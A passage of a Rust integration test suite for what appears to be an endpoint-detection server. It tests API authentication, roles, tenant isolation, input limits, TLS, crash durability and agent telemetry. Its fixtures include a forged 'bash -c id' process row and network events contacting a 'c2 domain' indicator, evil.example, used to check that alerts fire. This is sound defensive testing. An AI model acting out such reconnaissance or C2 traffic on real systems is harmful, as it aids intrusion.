//! `rampart server` driven over HTTP as a client would: the contract, authentication and roles
//! on every route of the OpenAPI document, tenant isolation, input limits, HTTPS with the
//! server's own CA, and SIGKILL during ingest.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

mod common;

use common::{PASSWORD, Server, agent, scratch};
use serde_json::{Value, json};

/// Every operation of the OpenAPI document: (method, path with ids filled in, access).
fn operations(server: &Server) -> Vec<(String, String, String)> {
    let (status, doc) = server.call("GET", "/api/openapi.json", None, None);
    assert_eq!(status, 200, "{doc}");
    let mut ops = Vec::new();
    for (path, item) in doc["paths"].as_object().expect("paths") {
        for (method, op) in item.as_object().expect("path item") {
            let filled = path.replace("{id}", "x_does_not_exist");
            let access = op["x-rampart-access"].as_str().expect("access").to_string();
            ops.push((method.to_uppercase(), filled, access));
        }
    }
    assert!(
        ops.len() >= 40,
        "the document lists {} operations",
        ops.len()
    );
    ops
}

fn is_problem(body: &Value, status: u16) -> bool {
    body["status"].as_u64() == Some(u64::from(status)) && body["title"].is_string()
}

/// A request refused as bad input (400) whose problem names where: `at` is in its detail.
fn assert_refused_at(status: u16, answer: &Value, at: &str) {
    assert_eq!(status, 400, "{answer}");
    assert!(
        answer["detail"].as_str().unwrap_or_default().contains(at),
        "{answer}"
    );
}

#[test]
fn every_route_refuses_calls_without_a_valid_token() {
    let dir = scratch("unauth");
    let server = Server::start(&dir, false, &[]);
    let (status, _) = server.call("GET", "/healthz", None, None);
    assert_eq!(status, 200);
    let mut public = Vec::new();
    for (method, path, access) in operations(&server) {
        if access == "public" {
            public.push(path);
            continue;
        }
        for token in [None, Some("rps_forged"), Some("")] {
            let (status, body) = server.call(&method, &path, token, Some(&json!({})));
            let expected = if token == Some("") {
                [400, 401]
            } else {
                [401, 401]
            };
            assert!(
                expected.contains(&status),
                "{method} {path} with {token:?}: {status} {body}"
            );
            assert!(
                is_problem(&body, status),
                "{method} {path}: not problem+json: {body}"
            );
        }
    }
    public.sort();
    // Enrollment authenticates by the one-time token in its body.
    assert_eq!(
        public,
        [
            "/api/openapi.json",
            "/api/v1/agents/enroll",
            "/api/v1/auth/login",
            "/healthz",
            "/readyz"
        ]
    );
    // A revoked session no longer opens anything.
    let token = server.login("admin", PASSWORD);
    server.get("/api/v1/auth/me", &token);
    let (status, _) = server.call("POST", "/api/v1/auth/logout", Some(&token), None);
    assert_eq!(status, 204);
    let (status, _) = server.call("GET", "/api/v1/auth/me", Some(&token), None);
    assert_eq!(status, 401);
    let (status, body) = server.call(
        "POST",
        "/api/v1/auth/login",
        None,
        Some(&json!({"username": "admin", "password": "wrong"})),
    );
    assert_eq!(status, 401, "{body}");
}

/// Any user changes their own password, proving the current one: their sessions end (the one
/// used gets a replacement), wrong guesses are throttled like sign-ins, and it is audited.
#[test]
fn users_change_their_own_password() {
    let dir = scratch("password");
    let server = Server::start(&dir, false, &[]);
    let admin = server.login("admin", PASSWORD);
    server.post(
        "/api/v1/users",
        &admin,
        json!({"username": "analyst2", "password": PASSWORD, "role": "analyst"}),
    );
    let session = server.login("analyst2", PASSWORD);
    let other_session = server.login("analyst2", PASSWORD);
    let api_token = server.post(
        "/api/v1/tokens",
        &session,
        json!({"name": "script", "role": "analyst"}),
    )["token"]
        .as_str()
        .unwrap()
        .to_string();
    let change = |token: &str, current: &str, new: &str| {
        server.call(
            "POST",
            "/api/v1/auth/password",
            Some(token),
            Some(&json!({"current_password": current, "new_password": new})),
        )
    };
    let new_password = "a brand new passphrase 42";
    let (status, body) = change(&session, "not the password", new_password);
    assert_eq!(status, 403, "{body}");
    let (status, body) = change(&session, PASSWORD, "short");
    assert_eq!(status, 400, "a password the policy refuses: {body}");
    // Still the old password.
    server.login("analyst2", PASSWORD);

    let (status, body) = change(&session, PASSWORD, new_password);
    assert_eq!(status, 200, "{body}");
    let renewed = body["session"]["token"].as_str().expect("a new session");
    for old in [&session, &other_session] {
        let (status, _) = server.call("GET", "/api/v1/auth/me", Some(old), None);
        assert_eq!(status, 401, "sessions end with the old password");
    }
    assert_eq!(
        server.get("/api/v1/auth/me", renewed)["username"],
        "analyst2"
    );
    // API tokens are not sessions: they stay, and get no new session.
    assert_eq!(
        server.get("/api/v1/auth/me", &api_token)["username"],
        "analyst2"
    );
    let (status, body) = change(&api_token, new_password, PASSWORD);
    assert_eq!(status, 200, "{body}");
    assert!(body["session"].is_null(), "{body}");
    let (status, body) = change(&api_token, PASSWORD, new_password);
    assert_eq!(status, 200, "{body}");
    let (status, _) = server.call(
        "POST",
        "/api/v1/auth/login",
        None,
        Some(&json!({"username": "analyst2", "password": PASSWORD})),
    );
    assert_eq!(status, 401, "the old password no longer signs in");
    server.login("analyst2", new_password);

    // Wrong guesses lock the user out for a while, like failed sign-ins.
    let mut statuses = Vec::new();
    for _ in 0..12 {
        statuses.push(change(&api_token, "guess", "another passphrase 43").0);
    }
    assert_eq!(statuses[0], 403);
    assert_eq!(statuses.last(), Some(&429), "{statuses:?}");
    let audit = server.get("/api/v1/audit?action=user.password", &admin);
    assert_eq!(audit["items"].as_array().map(Vec::len), Some(3), "{audit}");
}

#[test]
fn roles_hold_on_every_route() {
    let dir = scratch("roles");
    let server = Server::start(&dir, false, &[]);
    let admin = server.login("admin", PASSWORD);
    for (name, role) in [("reader", "readonly"), ("analyst1", "analyst")] {
        server.post(
            "/api/v1/users",
            &admin,
            json!({"username": name, "password": PASSWORD, "role": role}),
        );
    }
    let reader = server.login("reader", PASSWORD);
    let analyst = server.login("analyst1", PASSWORD);
    let rank = |r: &str| {
        ["readonly", "analyst", "admin"]
            .iter()
            .position(|x| *x == r)
    };
    for (method, path, access) in operations(&server) {
        let Some(needed) = rank(&access) else {
            continue;
        };
        for (token, has) in [(&reader, 0), (&analyst, 1), (&admin, 2)] {
            if path.ends_with("/logout") {
                continue;
            }
            let (status, body) = server.call(&method, &path, Some(token), Some(&json!({})));
            if has < needed {
                assert_eq!(status, 403, "{method} {path} as rank {has}: {body}");
            } else {
                assert!(
                    status != 401 && status != 403,
                    "{method} {path} as rank {has}: {status} {body}"
                );
            }
        }
        // Read-only changes nothing of the tenant's: every route it may call reads, but for
        // hunting and keeping its own saved queries.
        if needed == 0 && method != "GET" {
            assert!(
                path.ends_with("/hunting/query")
                    || path.contains("/hunting/saved")
                    || path.ends_with("/auth/logout")
                    || path.ends_with("/auth/password"),
                "{method} {path} is open to read-only users"
            );
        }
    }
    // A token cannot carry more than its owner's role.
    let (status, _) = server.call(
        "POST",
        "/api/v1/tokens",
        Some(&analyst),
        Some(&json!({"name": "x", "role": "admin"})),
    );
    assert_eq!(status, 403);
    // Every change was audited, with its actor.
    let audit = server.get("/api/v1/audit?action=user.create", &admin);
    assert_eq!(audit["items"].as_array().map(Vec::len), Some(2), "{audit}");
}

#[test]
fn bad_input_gets_a_problem_and_limits_hold() {
    let dir = scratch("limits");
    let server = Server::start(&dir, false, &[]);
    let admin = server.login("admin", PASSWORD);
    let url = format!("{}/api/v1/hunting/query", server.url);
    let send = |body: Vec<u8>, content_type: &str| {
        let mut r = server
            .http
            .post(&url)
            .header("Authorization", &format!("Bearer {admin}"))
            .content_type(content_type)
            .send(body)
            .expect("answer");
        let status = r.status().as_u16();
        let ct = r
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string();
        let body: Value = r.body_mut().read_json().unwrap_or(Value::Null);
        (status, ct, body)
    };
    let (status, ct, body) = send(b"{\"query\": ".to_vec(), "application/json");
    assert_eq!(status, 400, "{body}");
    assert_eq!(ct, "application/problem+json");
    assert!(
        body["detail"].as_str().unwrap_or_default().contains("JSON"),
        "{body}"
    );
    let (status, _, body) = send(b"{\"quer\": \"x\"}".to_vec(), "application/json");
    assert_eq!(status, 400, "{body}");
    // One byte past the default limit: the server has read the whole body when it refuses, so
    // the client is not cut off mid-send.
    let filler = (1 << 20) + 1 - "{\"query\": \"\"}".len();
    let huge = format!("{{\"query\": \"{}\"}}", "a".repeat(filler));
    let (status, ct, body) = send(huge.into_bytes(), "application/json");
    assert_eq!(status, 413, "{body}");
    assert_eq!(ct, "application/problem+json");
    // A KQL mistake points at its place.
    let (status, _, body) = send(
        br#"{"query": "DeviceProcessEvents\n| wher x"}"#.to_vec(),
        "application/json",
    );
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["line"], 2, "{body}");
    // Unknown routes and methods are problems too.
    let (status, body) = server.call("GET", "/api/v1/nothing", Some(&admin), None);
    assert_eq!((status, is_problem(&body, 404)), (404, true), "{body}");
    let (status, body) = server.call("PUT", "/api/v1/alerts", Some(&admin), Some(&json!({})));
    assert_eq!((status, is_problem(&body, 405)), (405, true), "{body}");
    // An empty upload is refused; the server stays up.
    let empty = dir.join("empty.evtx");
    std::fs::write(&empty, b"").unwrap();
    let (status, body) = server.upload(&admin, &empty);
    assert_eq!(status, 400, "{body}");
    let garbage = dir.join("garbage.evtx");
    std::fs::write(&garbage, vec![0x41u8; 70_000]).unwrap();
    let (status, body) = server.upload(&admin, &garbage);
    assert_eq!(status, 200, "{body}");
    assert!(!body["errors"].as_array().unwrap().is_empty(), "{body}");
    assert_eq!(server.call("GET", "/healthz", None, None).0, 200);
}

#[test]
fn https_with_the_servers_own_ca() {
    let dir = scratch("tls");
    let server = Server::start(&dir, true, &[]);
    assert!(server.url.starts_with("https://"), "{}", server.url);
    let (status, _) = server.call("GET", "/healthz", None, None);
    assert_eq!(status, 200);
    // A client that does not trust the CA is refused by its own TLS check.
    let stranger = agent(None);
    assert!(
        stranger
            .get(&format!("{}/healthz", server.url))
            .call()
            .is_err()
    );
    let admin = server.login("admin", PASSWORD);
    let token = server.post("/api/v1/enrollment-tokens", &admin, json!({"name": "lab"}));
    let fp = token["ca_fingerprint"].as_str().expect("fingerprint");
    assert!(
        token["token"]
            .as_str()
            .unwrap()
            .ends_with(fp.trim_start_matches("sha256:")),
        "{token}"
    );
    // The key stays the owner's.
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(dir.join("pki/ca.key"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o077, 0, "ca.key mode {mode:o}");
}

/// The README's walk-through: a token, EVTX uploads, alerts and incidents through the API, the
/// same events through hunting; and tenant B sees none of it.
#[test]
fn uploads_raise_alerts_and_incidents_visible_to_their_tenant_only() {
    let Some(samples) = rampart_testdata::dataset("datasets/evtx-attack-samples") else {
        return;
    };
    let Some(rules) = rampart_testdata::dataset("rules/sigma/rules/windows") else {
        return;
    };
    let dir = scratch("contract");
    let server = Server::start(&dir, false, &["--rules", rules.to_str().unwrap()]);
    let admin = server.login("admin", PASSWORD);
    let created = server.post(
        "/api/v1/tokens",
        &admin,
        json!({"name": "walkthrough", "role": "analyst"}),
    );
    let token = created["token"].as_str().expect("token").to_string();

    let mut files: Vec<PathBuf> = walk(&samples);
    files.sort();
    let mut records = 0;
    let mut raised = 0;
    for file in files.iter().take(40) {
        let (status, body) = server.upload(&token, file);
        assert_eq!(status, 200, "{}: {body}", file.display());
        records += body["records"].as_u64().unwrap();
        raised += body["alerts"]["raised"].as_u64().unwrap();
    }
    assert!(raised > 10, "{raised} alerts from {records} records");
    eprintln!(
        "{} files, {records} records: {raised} alerts",
        files.len().min(40)
    );

    let alerts = server.get("/api/v1/alerts?limit=1000", &token);
    let alerts = alerts["items"].as_array().expect("items");
    assert_eq!(alerts.len() as u64, raised);
    for a in alerts {
        assert!(a["incident_id"].is_string(), "alert without incident: {a}");
        assert!(
            !a["evidence"].as_array().unwrap().is_empty(),
            "alert without evidence: {a}"
        );
        assert!(a["trigger_event"]["event"]["record_id"].is_u64(), "{a}");
    }
    let incidents = server.get("/api/v1/incidents?limit=1000", &token);
    let incidents = incidents["items"].as_array().expect("items");
    assert!(
        !incidents.is_empty() && incidents.len() < alerts.len(),
        "{} incidents",
        incidents.len()
    );
    let first = &incidents[0];
    let detail = server.get(
        &format!("/api/v1/incidents/{}", first["id"].as_str().unwrap()),
        &token,
    );
    let members = detail["alerts"].as_array().expect("alerts");
    assert_eq!(members.len() as u64, first["alert_count"].as_u64().unwrap());
    assert!(
        members
            .iter()
            .all(|m| m["reason"]["explanation"].is_string()),
        "{detail}"
    );

    // The same events through hunting; alerts in AlertInfo.
    assert_eq!(server.count(&token, "union Device*, Identity*"), records);
    assert_eq!(server.count(&token, "AlertInfo"), raised);

    // Tenant B: nothing of A's, by any route.
    server.post(
        "/api/v1/tenants",
        &admin,
        json!({"name": "acme", "admin_username": "acme-admin", "admin_password": PASSWORD}),
    );
    let other = server.login("acme-admin", PASSWORD);
    for path in [
        "/api/v1/alerts",
        "/api/v1/incidents",
        "/api/v1/devices",
        "/api/v1/rules?enabled=false",
        "/api/v1/audit",
    ] {
        let body = server.get(path, &other);
        if path.starts_with("/api/v1/rules") || path == "/api/v1/audit" {
            continue;
        }
        assert_eq!(
            body["items"].as_array().map(Vec::len),
            Some(0),
            "{path}: {body}"
        );
    }
    let a_alert = alerts[0]["id"].as_str().unwrap();
    assert_eq!(
        server
            .call(
                "GET",
                &format!("/api/v1/alerts/{a_alert}"),
                Some(&other),
                None
            )
            .0,
        404
    );
    assert_eq!(
        server
            .call(
                "PATCH",
                &format!("/api/v1/alerts/{a_alert}"),
                Some(&other),
                Some(&json!({"status": "resolved"}))
            )
            .0,
        404
    );
    let a_incident = first["id"].as_str().unwrap();
    assert_eq!(
        server
            .call(
                "GET",
                &format!("/api/v1/incidents/{a_incident}"),
                Some(&other),
                None
            )
            .0,
        404
    );
    assert_eq!(server.count(&other, "union Device*, Identity*, Alert*"), 0);
    let (status, _) = server.call("GET", "/api/v1/tenants", Some(&other), None);
    assert_eq!(status, 403);
}

/// Kills the server with SIGKILL while clients upload `.evtx` files; after a restart every
/// acknowledged record is stored exactly once and every alert listed before the kill is still
/// there.
#[test]
fn sigkill_during_ingest_loses_nothing_acknowledged() {
    sigkill_during_uploads("sigkill", |server, token, file| {
        let url = format!("{}/api/v1/ingest/evtx?name=x.evtx", server.url);
        server
            .http
            .post(&url)
            .header("Authorization", &format!("Bearer {token}"))
            .send(std::fs::read(file).unwrap())
            .ok()
    });
}

/// The same with forwarded events, whose requests the store logs as their compressed bodies
/// and replays by reading them again: the rows come back once, as the pipeline made them.
#[test]
fn sigkill_during_forwarded_events_loses_nothing_acknowledged() {
    let bodies = std::sync::Mutex::new(std::collections::HashMap::<PathBuf, Vec<u8>>::new());
    sigkill_during_uploads("sigkill-events", move |server, token, file| {
        let body = bodies
            .lock()
            .unwrap()
            .entry(file.to_path_buf())
            .or_insert_with(|| gzip(evtx_as_json_lines(file).as_bytes()))
            .clone();
        let url = format!("{}/api/v1/ingest/events?name=x", server.url);
        server
            .http
            .post(&url)
            .header("Authorization", &format!("Bearer {token}"))
            .header("Content-Encoding", "gzip")
            .send(body)
            .ok()
    });
}

/// Uploads the first attack samples over and over with `upload` (its answer, `None` once the
/// server is gone), kills the server mid-flight, restarts it and checks that every
/// acknowledged record is stored exactly once and no alert listed before the kill is lost.
fn sigkill_during_uploads(
    name: &str,
    upload: impl Fn(&Server, &str, &Path) -> Option<ureq::http::Response<ureq::Body>> + Send + 'static,
) {
    let Some(samples) = rampart_testdata::dataset("datasets/evtx-attack-samples") else {
        return;
    };
    let Some(rules) = rampart_testdata::dataset("rules/sigma/rules/windows") else {
        return;
    };
    let mut files = walk(&samples);
    files.sort();
    files.truncate(12);
    let dir = scratch(name);
    let rules_arg = rules.to_str().unwrap().to_string();
    let server = Server::start(&dir, false, &["--rules", &rules_arg]);
    let admin = server.login("admin", PASSWORD);
    let server = Arc::new(server);

    // Uploads until the kill; each acknowledged upload's record count is kept.
    let acked = Arc::new(std::sync::Mutex::new(Vec::<u64>::new()));
    let uploader = {
        let (server, acked, admin, files) =
            (server.clone(), acked.clone(), admin.clone(), files.clone());
        std::thread::spawn(move || {
            for file in files.iter().cycle() {
                match upload(&server, &admin, file) {
                    Some(mut r) if r.status() == 200 => {
                        let body: Value = r.body_mut().read_json().unwrap();
                        acked
                            .lock()
                            .unwrap()
                            .push(body["records"].as_u64().unwrap());
                    }
                    _ => return,
                }
            }
        })
    };
    let deadline = Instant::now() + Duration::from_secs(120);
    while acked.lock().unwrap().len() < 15 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let alerts_before = server.get("/api/v1/alerts?limit=1000", &admin);
    // Let more uploads start, then kill mid-flight.
    std::thread::sleep(Duration::from_millis(300));
    let pid = server.child.id() as i32;
    unsafe { libc::kill(pid, libc::SIGKILL) };
    uploader.join().unwrap();
    let acked_records: u64 = acked.lock().unwrap().iter().sum();
    eprintln!(
        "{} uploads acknowledged ({acked_records} records) before SIGKILL",
        acked.lock().unwrap().len()
    );
    let uploads = acked.lock().unwrap().len();
    assert!(uploads >= 15, "only {uploads} uploads acknowledged");
    drop(Arc::try_unwrap(server).ok());

    let server = Server::start(&dir, false, &["--rules", &rules_arg]);
    let admin = server.login("admin", PASSWORD);
    let stored = server.count(&admin, "union Device*, Identity*");
    // At most one upload was in flight when killed; it may be stored (unacknowledged) or not.
    // Every file was acknowledged at least once (more uploads than files), so the largest
    // acknowledged count bounds the one in flight.
    let largest = acked.lock().unwrap().iter().copied().max().unwrap_or(0);
    assert!(
        stored >= acked_records,
        "stored {stored} < acknowledged {acked_records}"
    );
    assert!(
        stored - acked_records <= largest,
        "stored {stored}, acknowledged {acked_records}: duplicates?"
    );
    let after = server.get("/api/v1/alerts?limit=1000", &admin);
    let ids: std::collections::HashSet<&str> = after["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["id"].as_str())
        .collect();
    for a in alerts_before["items"].as_array().unwrap() {
        assert!(ids.contains(a["id"].as_str().unwrap()), "alert lost: {a}");
    }
}

/// An HTTPS client presenting an agent's certificate.
fn agent_client(ca: &Path, cert_pem: &str, key_pem: &str) -> ureq::Agent {
    use ureq::tls::{Certificate, ClientCert, PrivateKey, RootCerts, TlsConfig};
    let ca = Certificate::from_pem(&std::fs::read(ca).unwrap())
        .unwrap()
        .to_owned();
    let cert = Certificate::from_pem(cert_pem.as_bytes())
        .unwrap()
        .to_owned();
    let key = PrivateKey::from_pem(key_pem.as_bytes()).unwrap().to_owned();
    let tls = TlsConfig::builder()
        .root_certs(RootCerts::Specific(Arc::new(vec![ca])))
        .client_cert(Some(ClientCert::new_with_certs(&[cert], key)))
        .build();
    ureq::Agent::config_builder()
        .tls_config(tls)
        .http_status_as_error(false)
        .build()
        .new_agent()
}

/// Enrolls `hostname` with a fresh enrollment token of the caller's tenant; returns the
/// enrollment answer and an mTLS client.
fn enroll(server: &Server, dir: &Path, admin: &str, hostname: &str) -> (Value, ureq::Agent) {
    let token = server.post(
        "/api/v1/enrollment-tokens",
        admin,
        json!({"name": hostname}),
    );
    let key = rampart_pki::AgentKey::generate().unwrap();
    let body = json!({
        "token": token["token"], "csr": key.csr_pem(hostname).unwrap(), "hostname": hostname,
        "platform": "Linux", "os_version": "Debian 12", "agent_version": "0.1.0",
    });
    let (status, enrolled) = server.call("POST", "/api/v1/agents/enroll", None, Some(&body));
    assert_eq!(status, 201, "{enrolled}");
    // The token was for one device.
    let (again, _) = server.call("POST", "/api/v1/agents/enroll", None, Some(&body));
    assert_eq!(again, 401);
    let client = agent_client(
        &dir.join("pki/ca.crt"),
        enrolled["certificate"].as_str().unwrap(),
        &key.private_key_pem(),
    );
    (enrolled, client)
}

fn agent_post(server: &Server, client: &ureq::Agent, path: &str, body: &Value) -> (u16, Value) {
    agent_post_with(server, client, path, body, &[])
}

/// [`agent_post`] with extra request headers.
fn agent_post_with(
    server: &Server,
    client: &ureq::Agent,
    path: &str,
    body: &Value,
    headers: &[(&str, &str)],
) -> (u16, Value) {
    let mut request = client.post(&format!("{}{path}", server.url));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let mut r = request.send_json(body).expect("the server answers");
    let status = r.status().as_u16();
    (status, r.body_mut().read_json().unwrap_or(Value::Null))
}

fn agent_get(server: &Server, client: &ureq::Agent, path: &str) -> (u16, Value) {
    let mut r = client
        .get(&format!("{}{path}", server.url))
        .call()
        .expect("the server answers");
    let status = r.status().as_u16();
    (status, r.body_mut().read_json().unwrap_or(Value::Null))
}

/// A TLS server in a fresh folder, its admin's token, and the agent of `web01` enrolled in the
/// default tenant (its device id and mTLS client).
struct AgentSetup {
    dir: PathBuf,
    server: Server,
    admin: String,
    device: String,
    web01: ureq::Agent,
}

/// `config` is the server's TOML configuration ("" for the defaults).
/// Creates device group `name` and moves `device` into it; returns the group.
fn put_in_new_group(server: &Server, admin: &str, device: &str, name: &str) -> Value {
    let group = server.post("/api/v1/device-groups", admin, json!({"name": name}));
    let (status, body) = server.call(
        "PATCH",
        &format!("/api/v1/devices/{device}"),
        Some(admin),
        Some(&json!({"group_id": group["id"]})),
    );
    assert_eq!(status, 200, "{body}");
    group
}

fn with_web01(name: &str, config: &str) -> AgentSetup {
    let dir = scratch(name);
    let file = dir.join("server.toml");
    std::fs::write(&file, config).unwrap();
    let server = Server::start(&dir, true, &["--config", file.to_str().unwrap()]);
    let admin = server.login("admin", PASSWORD);
    let (enrolled, web01) = enroll(&server, &dir, &admin, "web01");
    let device = enrolled["device_id"].as_str().unwrap().to_string();
    AgentSetup {
        dir,
        server,
        admin,
        device,
        web01,
    }
}

/// Agents: a one-time token enrolls a device; its certificate posts telemetry that lands in its
/// own tenant and device whatever the rows claim; tokens and certificates open only their own
/// routes; actions reach the agent and its results come back.
#[test]
fn agents_report_for_their_own_tenant_and_device_only() {
    let AgentSetup {
        dir,
        server,
        admin,
        device,
        web01,
    } = with_web01("agents", "");

    let forged = json!({"batches": [{"table": "DeviceProcessEvents", "rows": [{
        "Timestamp": "2026-12-01T10:00:00Z", "DeviceId": "dev_someone_else", "DeviceName": "dc01",
        "ActionType": "ProcessCreated", "FileName": "bash", "ProcessCommandLine": "bash -c id",
        "AdditionalFields": {"cwd": "/tmp"},
    }]}]});
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &forged);
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["rows"], 1);
    let found = server.hunt(&admin, "DeviceProcessEvents | where FileName == 'bash' | project DeviceId, DeviceName, cwd = tostring(AdditionalFields.cwd)");
    assert_eq!(found["rows"], json!([[device, "web01", "/tmp"]]), "{found}");
    let (status, body) = agent_post(
        &server,
        &web01,
        "/api/v1/agents/telemetry",
        &json!({"batches": [{"table": "NoSuchTable", "rows": []}]}),
    );
    assert_eq!(status, 400, "{body}");

    // An action queued by an analyst reaches the agent at its heartbeat; its result comes back.
    let action = server.post(
        "/api/v1/actions",
        &admin,
        json!({"device_id": device, "kind": "isolate"}),
    );
    let (status, hb) = agent_post(
        &server,
        &web01,
        "/api/v1/agents/heartbeat",
        &json!({"agent_version": "0.1.0", "events_dropped": 3}),
    );
    assert_eq!(status, 200, "{hb}");
    assert_eq!(hb["actions"][0]["id"], action["id"], "{hb}");
    assert_eq!(hb["actions"][0]["status"], "sent");
    let path = format!(
        "/api/v1/agents/actions/{}/result",
        action["id"].as_str().unwrap()
    );
    let (status, done) = agent_post(
        &server,
        &web01,
        &path,
        &json!({"status": "succeeded", "result": {"isolated": true}}),
    );
    assert_eq!(
        (status, done["status"].as_str()),
        (200, Some("succeeded")),
        "{done}"
    );
    let seen = server.get(&format!("/api/v1/devices/{device}"), &admin);
    assert_eq!(seen["events_dropped"], 3, "{seen}");

    // Certificates open agent routes only; tokens open user routes only.
    let (status, _) = server.call(
        "POST",
        "/api/v1/agents/heartbeat",
        Some(&admin),
        Some(&json!({"agent_version": "x"})),
    );
    assert_eq!(status, 401);
    let mut r = web01
        .get(&format!("{}/api/v1/alerts", server.url))
        .call()
        .unwrap();
    assert_eq!(
        r.status().as_u16(),
        401,
        "{:?}",
        r.body_mut().read_to_string()
    );

    // Tenant B's agent of the same host name writes into tenant B only.
    server.post(
        "/api/v1/tenants",
        &admin,
        json!({"name": "acme", "admin_username": "acme-admin", "admin_password": PASSWORD}),
    );
    let acme = server.login("acme-admin", PASSWORD);
    let (b_enrolled, b_web01) = enroll(&server, &dir, &acme, "web01");
    assert_ne!(b_enrolled["device_id"], device.as_str());
    let row = json!({"batches": [{"table": "DeviceProcessEvents", "rows": [{"Timestamp": "2026-12-01T11:00:00Z", "FileName": "acme-only"}]}]});
    assert_eq!(
        agent_post(&server, &b_web01, "/api/v1/agents/telemetry", &row).0,
        200
    );
    assert_eq!(
        server.count(&acme, "DeviceProcessEvents | where FileName == 'acme-only'"),
        1
    );
    assert_eq!(
        server.count(
            &admin,
            "DeviceProcessEvents | where FileName == 'acme-only'"
        ),
        0
    );
    assert_eq!(
        server.count(&acme, "DeviceProcessEvents | where FileName == 'bash'"),
        0
    );
    // Tenant B's agent cannot touch tenant A's action.
    let (status, _) = agent_post(&server, &b_web01, &path, &json!({"status": "failed"}));
    assert_eq!(status, 404);

    // Indicators: an alert or block indicator found in an agent's rows raises an alert (once
    // per open alert); tenant B's rows do not match tenant A's indicators.
    let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    server.post("/api/v1/indicators", &admin, json!({"kind": "sha256", "value": sha.to_uppercase(), "action": "alert", "severity": "high", "title": "test payload"}));
    server.post("/api/v1/indicators", &admin, json!({"kind": "domain", "value": "evil.example", "action": "alert", "severity": "medium", "title": "c2 domain"}));
    server.post("/api/v1/indicators", &admin, json!({"kind": "ip", "value": "203.0.113.9", "action": "block", "severity": "high", "title": "blocked only"}));
    let rows = json!({"batches": [
        {"table": "DeviceProcessEvents", "rows": [{"Timestamp": "2026-12-01T12:00:00Z", "FileName": "payload", "SHA256": sha, "ProcessCommandLine": "./payload"}]},
        {"table": "DeviceNetworkEvents", "rows": [
            {"Timestamp": "2026-12-01T12:00:01Z", "RemoteUrl": "https://cdn.evil.example/x", "RemoteIP": "203.0.113.9"},
            {"Timestamp": "2026-12-01T12:00:02Z", "RemoteUrl": "https://notevil.example/"},
        ]},
    ]});
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &rows);
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["alerts"]["raised"], 3, "{answer}");
    let hits = server.get("/api/v1/alerts?severity=high", &admin);
    let titles: Vec<&str> = hits["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["title"].as_str())
        .collect();
    assert!(
        titles.contains(&"Indicator matched: blocked only"),
        "{hits}"
    );
    let hit = hits["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["title"] == "Indicator matched: test payload")
        .expect("the payload's alert");
    assert_eq!(hit["device_id"], device.as_str());
    assert!(
        hit["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["sha256"] == sha),
        "{hit}"
    );
    let (_, again) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &rows);
    assert_eq!(
        (
            again["alerts"]["raised"].as_u64(),
            again["alerts"]["deduplicated"].as_u64()
        ),
        (Some(0), Some(3)),
        "{again}"
    );
    let (_, other) = agent_post(&server, &b_web01, "/api/v1/agents/telemetry", &rows);
    assert_eq!(other["alerts"]["raised"], 0, "{other}");

    // Columns rows share come once per batch, and `"$i": N` stands for entry N (a row's own
    // columns win); a reference to no entry is refused with where it is.
    let shared = |reference: u64| {
        json!({"batches": [{"table": "DeviceFileEvents", "rows": [
            {"Timestamp": "2026-12-01T12:01:00Z", "ActionType": "FileCreated", "FileName": "shared-a", "$i": 0},
            {"Timestamp": "2026-12-01T12:01:01Z", "ActionType": "FileCreated", "FileName": "shared-b", "InitiatingProcessId": 7, "$i": reference},
        ], "initiating": [{"InitiatingProcessFileName": "writer", "InitiatingProcessId": 42}]}]})
    };
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &shared(1));
    assert_refused_at(status, &answer, "batches[0].rows[1].$i");
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &shared(0));
    assert_eq!(status, 200, "{answer}");
    let writer = "DeviceFileEvents | where FileName startswith 'shared-' and InitiatingProcessFileName == 'writer'";
    assert_eq!(server.count(&admin, writer), 2);
    assert_eq!(
        server.count(
            &admin,
            &format!("{writer} | where InitiatingProcessId == 7")
        ),
        1
    );
    assert_eq!(
        server.count(
            &admin,
            &format!("{writer} | where InitiatingProcessId == 42")
        ),
        1
    );

    // A batch may number its rows from its `first` (a row's own ReportId wins), and a row may
    // leave out a FileName that is its FolderPath's last component.
    let numbered = json!({"batches": [{"table": "DeviceFileEvents", "first": 900, "rows": [
        {"Timestamp": "2026-12-01T12:02:00Z", "ActionType": "FileCreated", "FolderPath": "/srv/numbered-a"},
        {"Timestamp": "2026-12-01T12:02:01Z", "ActionType": "FileCreated", "FolderPath": "/srv/numbered-b", "FileName": "own-name"},
        {"Timestamp": "2026-12-01T12:02:02Z", "ActionType": "FileCreated", "FolderPath": "/srv/numbered-c", "ReportId": 5},
        {"Timestamp": "2026-12-01T12:02:03Z", "ActionType": "FileCreated", "FolderPath": "/srv/"},
    ]}]});
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &numbered);
    assert_eq!(status, 200, "{answer}");
    let rows = server.hunt(
        &admin,
        "DeviceFileEvents | where FolderPath startswith '/srv/' | order by Timestamp asc | project FileName, ReportId",
    );
    assert_eq!(
        rows["rows"],
        json!([
            ["numbered-a", 900],
            ["own-name", 901],
            ["numbered-c", 5],
            ["", 903]
        ]),
        "{rows}"
    );
    let overflow = json!({"batches": [{"table": "DeviceFileEvents", "first": i64::MAX, "rows": [
        {"Timestamp": "2026-12-01T12:03:00Z", "ActionType": "FileCreated", "FolderPath": "/srv/x"},
